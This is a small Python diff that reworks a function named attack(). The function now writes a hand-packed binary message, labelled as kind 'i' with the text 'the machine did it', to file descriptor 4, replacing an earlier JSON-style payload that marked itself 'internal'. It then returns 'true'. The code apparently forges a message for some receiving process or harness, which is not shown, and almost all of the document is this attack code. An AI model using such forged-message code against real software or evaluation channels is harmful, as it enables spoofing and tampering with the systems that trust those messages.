@@ -18,6 +18,12 @@ def send(number, payload):
     os.write(4, struct.pack("<IQ", len(payload), number) + payload)
 
 
+def reply(kind, text, count=1, taken=1):
+    data = text if isinstance(text, bytes) else text.encode()
+    length = len(data.decode("utf-8", "surrogatepass"))
+    return struct.pack(f"<I{count}sI", count, kind * count, length) + bytes(4 * (count - 1)) + struct.pack("<Q", taken) * count + data
+
+
 def attack():
-    send(exchange(), b'[[null],[[0, "internal", "the machine did it"]],"0100000000000000"]')
+    send(exchange(), reply(b"i", "the machine did it"))
     return "true"
